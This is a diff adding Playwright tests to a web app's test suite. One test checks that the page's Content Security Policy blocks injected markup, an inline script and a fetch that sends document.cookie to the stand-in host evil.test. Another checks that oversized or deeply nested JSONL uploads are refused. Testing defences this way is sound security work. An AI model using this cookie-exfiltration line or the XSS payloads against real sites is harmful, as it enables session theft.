@@ -75,3 +75,32 @@ def test_a_file_and_its_replay_stay_text(visit: RacePage, chromium: object, tmp_
     page.wait_for_selector("[data-status='done'], [data-status='error'], [data-status='stopped']", state="attached")
     innocent(page)
     page.close()
+
+
+def test_markup_that_slipped_through_could_run_nothing_and_reach_nobody(visit: RacePage) -> None:
+    """As if the page had a hole: the policy of the page is the second wall."""
+    seen = visit.page.evaluate("""async (payloads) => {
+      const hole = document.createElement("div");
+      document.body.append(hole);
+      for (const payload of payloads) hole.innerHTML += payload;
+      const script = document.createElement("script");
+      script.textContent = "window.pwned = 1";
+      hole.append(script);
+      const reached = await fetch("https://evil.test/?" + document.cookie).then(() => true, () => false);
+      await new Promise((done) => setTimeout(done, 500));
+      hole.remove();
+      return [window.pwned ?? null, reached];
+    }""", [payload for payload in PAYLOADS if "<meta" not in payload.lower() and "<base" not in payload.lower()])
+    assert seen == [None, False]
+    assert any("Content Security Policy" in complaint for complaint in visit.complaints), "it was the policy that said no"
+    outside = [url for url in visit.requests if "evil.test" in url]
+    visit.complaints.clear()
+    visit.requests.clear()
+    assert not outside
+
+
+@pytest.mark.parametrize("text,words", [("[" * 200_000, "at most 20 lists within lists"), ('{"type": "header"' + ', "x": [' * 30, "at most 20 lists within lists"),
+                                        ("{}\n" * 200_001, "at most 200000 records")], ids=["lists", "objects", "records"])
+def test_a_file_past_the_limits_is_refused(visit: RacePage, text: str, words: str) -> None:
+    visit.page.set_input_files(".keep input", files=[{"name": "race.jsonl", "mimeType": "", "buffer": text.encode()}])
+    visit.page.locator("[role='status']", has_text=words).wait_for(timeout=20_000)
